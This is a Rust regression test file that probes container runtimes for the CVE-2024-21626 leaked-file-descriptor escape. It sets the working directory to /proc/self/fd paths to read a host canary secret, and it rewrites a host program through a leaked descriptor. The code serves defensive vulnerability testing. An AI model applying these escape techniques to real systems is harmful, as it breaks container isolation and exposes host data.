//! Descriptors of the runtime as a way out: working folders and programs below /proc/self/fd.

use crate::paths::up_from;
use crate::victim::{Canary, Loot, SECRET, holds, id};
use runtime_tests::bundle::Bundle;
use runtime_tests::programs;
use runtime_tests::runtime::{Runtime, Said};
use serde_json::json;
use std::fs;
use std::os::unix::fs::symlink;

/// Those that runc had open were 3 to 9.
const FDS: std::ops::RangeInclusive<i32> = 3..=11;

fn loot(said: &Said, way: &str) -> Loot {
    said.out.contains(SECRET).then(|| format!("{way}: {}", said.out))
}

#[test]
fn cve_2024_21626_leaked_fd_as_cwd() {
    holds(|runtime: &Runtime| {
        let canary = Canary::new();
        let read = format!("cat {}", canary.climbing().join("secret").display());
        let id = id("21626-cwd");
        let running = Bundle::new("cve-running", &["sleep", "1000"]);
        for fd in FDS {
            symlink(format!("/proc/self/fd/{fd}"), running.root().join(format!("fd{fd}"))).expect("a link");
        }
        runtime.create(&running, &id);
        runtime.ok(["start", &id]);
        let found = FDS.into_iter().find_map(|fd| {
            let cwd = format!("/proc/self/fd/{fd}");
            let bundle =
                Bundle::new("cve-cwd", &["sh", "-c", &read]).with(|c| c["process"]["cwd"] = json!(cwd));
            let process = running.path().join("process.json");
            let mut config = running.config["process"].clone();
            config["cwd"] = json!(cwd);
            config["args"] = json!(["sh", "-c", read]);
            fs::write(&process, config.to_string()).expect("process.json");
            let linked = format!("/fd{fd}");
            loot(&runtime.run(&bundle, &format!("{id}-run")), "run")
                .or_else(|| loot(&runtime.say(["exec", "--cwd", &cwd, &id, "sh", "-c", &read]), "exec"))
                .or_else(|| {
                    loot(&runtime.say(["exec", "--cwd", &linked, &id, "sh", "-c", &read]), "exec, a link")
                })
                .or_else(|| {
                    let process = process.to_str().expect("UTF-8");
                    loot(&runtime.say(["exec", "--process", process, &id]), "exec with a file")
                })
                .map(|loot| format!("{cwd}: {loot}"))
        });
        runtime.ok(["delete", "--force", &id]);
        found
    });
}

/// The program itself lies on the machine: what runs has its own file there, open to be written (the third of the attacks).
#[test]
fn cve_2024_21626_leaked_fd_as_program() {
    holds(|runtime: &Runtime| {
        let canary = Canary::new();
        let running = Bundle::new("cve-running", &["sleep", "1000"]);
        programs::copy(&running.root().join("bin/busybox"), &canary.path().join("echo"));
        let id = id("21626-program");
        runtime.create(&running, &id);
        runtime.ok(["start", &id]);
        let found = FDS.into_iter().find_map(|fd| {
            let program = up_from(fd, &canary, "echo");
            let bundle = Bundle::new("cve-program", &[&program, SECRET]);
            loot(&runtime.run(&bundle, &format!("{id}-run")), "run")
                .or_else(|| loot(&runtime.say(["exec", &id, &program, SECRET]), "exec"))
        });
        runtime.ok(["delete", "--force", &id]);
        found
    });
}
